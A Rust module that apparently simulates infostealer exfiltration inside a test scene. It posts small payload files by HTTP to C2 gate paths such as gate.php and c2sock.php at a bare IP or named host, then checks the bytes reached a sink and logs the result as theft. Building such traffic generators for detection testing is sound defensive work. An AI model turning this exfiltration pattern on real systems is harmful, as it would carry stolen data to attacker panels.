//! A stealer's few kilobytes by POST in clear: to a bare address, to a gate in PHP.

use anyhow::{Result, ensure};

use crate::payloads;
use crate::random::Random;
use crate::scene::{Outcome, SINK_PORT, Scene, Target};
use crate::tools::post::{self, ODD_AGENTS, Post};

const GATES: [&str; 5] =
    ["gate.php", "panel/gate.php", "index.php", "c2sock.php", "api/upload.php"];

/// To an address that no name was resolved for.
pub(crate) fn bare(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let mut target = scene.target(random)?;
    target.host = target.address.to_string();
    let port = *random.pick(&[80, 80, SINK_PORT]);
    gate(scene, random, &target, port)
}

/// To a gate with a name.
pub(crate) fn named(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    gate(scene, random, &target, 80)
}

/// One to four posts, by curl or by Python's requests.
fn gate(scene: &Scene<'_>, random: &mut Random, target: &Target, port: u16) -> Result<Outcome> {
    let path = format!("{}/{}", random.word(5), random.pick(&GATES));
    let url = format!("http://{}:{port}/{path}", target.url_host());
    let times = random.between(1, 4);
    let found = payloads::small(random);
    let form = random.chance(0.4);
    let by_library = random.chance(0.3);
    let pause_secs = random.uniform(0.1, 2.0);
    if by_library {
        let file = scene.document(&found.name, &found.bytes)?;
        let style = if form { "form" } else { "raw" };
        let arguments = [url, file, style.to_owned(), times.to_string(), pause_secs.to_string()];
        scene.run_script("post.py", &arguments)?;
    } else {
        let agent = *random.pick(&ODD_AGENTS);
        let post = Post { url, agent, method: "POST", headers: Vec::new(), form };
        for _ in 0..times {
            post::send(scene, target, &post, &found)?;
            std::thread::sleep(std::time::Duration::from_secs_f64(pause_secs));
        }
    }
    let (carried, arrived) = (found.bytes.len() * times as usize, scene.sunk_bytes(&path)?);
    // A form has some lines of its own around the file.
    ensure!(
        (carried..=carried + 600 * times as usize).contains(&arrived),
        "{carried} bytes were sent and {arrived} arrived"
    );
    let notes = format!("{times} posts of {} to {}:{port}/{path}", found.bytes.len(), target.host);
    Ok(Outcome::stolen(scene.culprit(target, "tcp", Some(port))?, carried, notes))
}
